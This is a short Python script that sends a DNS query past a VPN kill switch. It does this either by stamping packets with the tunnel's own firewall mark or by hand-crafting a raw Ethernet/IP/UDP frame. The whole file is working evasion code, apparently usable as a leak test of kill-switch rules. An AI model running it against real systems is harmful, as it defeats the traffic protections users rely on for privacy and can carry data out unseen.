# A query past the kill switch: with the mark of the tunnel's own packets, or as a frame of one's own.
#
#   evade.py mark RESOLVER
#   evade.py frame RESOLVER SOURCE SOURCE-MAC GATEWAY-MAC
import socket
import struct
import sys

SO_MARK = 36
query = bytes.fromhex("2a2a01000001000000000000") + b"\x06secret\x07example\0" + struct.pack("!2H", 1, 1)
resolver = sys.argv[2]
if sys.argv[1] == "mark":
    flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flow.setsockopt(socket.SOL_SOCKET, SO_MARK, 51820)
    flow.sendto(query, (resolver, 53))
else:
    source, source_mac, gateway_mac = sys.argv[3:]
    datagram = struct.pack("!4H", 53053, 53, 8 + len(query), 0) + query
    addresses = socket.inet_aton(source) + socket.inet_aton(resolver)
    header = struct.pack("!BBHIBBH", 0x45, 0, 20 + len(datagram), 0, 64, socket.IPPROTO_UDP, 0) + addresses
    total = sum(struct.unpack("!10H", header))  # RFC 1071
    total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:]
    macs = bytes.fromhex((gateway_mac + source_mac).replace(":", ""))
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    link.send(macs + b"\x08\x00" + header + datagram)
